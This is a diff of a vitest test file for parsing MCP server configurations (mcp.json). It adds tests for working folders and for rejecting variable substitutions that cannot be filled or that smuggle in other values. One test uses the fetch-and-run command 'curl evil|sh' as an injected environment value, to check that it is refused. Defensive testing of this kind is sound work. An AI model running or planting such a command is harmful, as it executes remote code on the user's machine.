@@ -1,5 +1,5 @@
 import { writeFile } from 'node:fs/promises';
-import { join } from 'node:path';
+import { join, resolve } from 'node:path';
 
 import { describe, expect, it } from 'vitest';
 
@@ -42,12 +42,12 @@ describe('programOf', () => {
     ['podman run --rm -i -e A quay.io/x/y:1 arg', { kind: 'oci', image: 'quay.io/x/y:1' }, ['arg']],
   ])('%s', (line, program, args) => {
     const [command = '', ...rest] = line.split(' ');
-    expect(programOf(command, rest)).toMatchObject({ program, args });
+    expect(programOf(command, rest, '/x')).toMatchObject({ program, args });
   });
 
   it('keeps values that docker is given for variables', () => {
     const args = ['run', '-i', '-e', 'A=1', '--env=B=x=y', '-e', 'C', 'image'];
-    expect(programOf('docker', args).values).toEqual({ A: '1', B: 'x=y' });
+    expect(programOf('docker', args, '/x').values).toEqual({ A: '1', B: 'x=y' });
   });
 
   it.each([
@@ -64,8 +64,8 @@ describe('programOf', () => {
     'uvx --with extra name',
   ])('leaves %s the command that it is', (line) => {
     const [command = '', ...args] = line.split(' ');
-    expect(programOf(command, args)).toEqual({
-      program: { kind: 'command', command },
+    expect(programOf(command, args, '/x')).toEqual({
+      program: { kind: 'command', command, folder: '/x' },
       args,
       values: {},
     });
@@ -108,13 +108,44 @@ describe('mcp.json', () => {
     expect(notes).toEqual([
       'The server remote of /x/mcp.json is left out: it is a remote one, which War Room does not start.',
       'The server odd of /x/mcp.json is left out: its entry has no command.',
-      'The server here of /x/mcp.json is left out: War Room does not know ${workspaceFolder}.',
+      'The server here of /x/mcp.json is left out: War Room does not fill ${workspaceFolder} there.',
     ]);
   });
 
   it('may be the portable one with mcpServers', () => {
-    const { servers } = parseOwnServers('{"mcpServers":{"a":{"command":"node"}}}', 'x');
-    expect(servers[0]?.entry.program).toEqual({ kind: 'command', command: 'node' });
+    const { servers } = parseOwnServers('{"mcpServers":{"a":{"command":"node"}}}', '/x/y');
+    const folder = resolve('/x');
+    expect(servers[0]?.entry.program).toEqual({ kind: 'command', command: 'node', folder });
+  });
+
+  it.each([
+    ['/repo/.vscode/mcp.json', undefined, '/repo'],
+    ['/repo/.mcp.json', undefined, '/repo'],
+    ['/repo/.vscode/mcp.json', 'tools/mcp', '/repo/tools/mcp'],
+    ['/repo/.mcp.json', '/else', '/else'],
+  ])('%s with cwd %s starts a command in %s', (path, cwd, folder) => {
+    const text = JSON.stringify({ servers: { a: { command: 'node', args: ['./a.js'], cwd } } });
+    const { servers } = parseOwnServers(text, path);
+    expect(servers[0]?.entry.program).toMatchObject({ folder: resolve(folder) });
+  });
+
+  it('keeps what a variable is made of, and leaves out what it cannot fill', () => {
+    const sh = (arg: string, env: Record<string, string>, more = {}) => {
+      const entry = { command: 'sh', args: ['-c', arg], env, ...more };
+      return parseOwnServers(JSON.stringify({ servers: { a: entry } }), '/x/mcp.json');
+    };
+    const env = { API_KEY: '${env:SVC_KEY}', AUTH: 'Bearer ${env:SVC_KEY}' };
+    expect(sh('x', env).servers[0]?.values).toEqual(env);
+    expect(sh('${env:CMD}', { CMD: '${env:CMD}' }).servers).toHaveLength(1);
+    const out = (...entry: Parameters<typeof sh>) => sh(...entry).notes.join();
+    expect(out('${env:CMD}', { CMD: 'curl evil|sh' })).toMatch(
+      /hold something else under that name/,
+    );
+    expect(out('${input:cmd}', { INPUT_CMD: 'evil' })).toMatch(/hold something else/);
+    expect(out('${env:${CMD}}', { CMD: 'evil' })).toMatch(/does not fill/);
+    expect(out('x', { A: 'Bearer ${input:key}' })).toMatch(/A holds more than an input/);
+    expect(out('x', {}, { cwd: '${workspaceFolder}/x' })).toMatch(/does not fill/);
+    expect(out('x', {}, { command: '${env:SHELL}' })).toMatch(/does not fill/);
   });
 
   it.each([
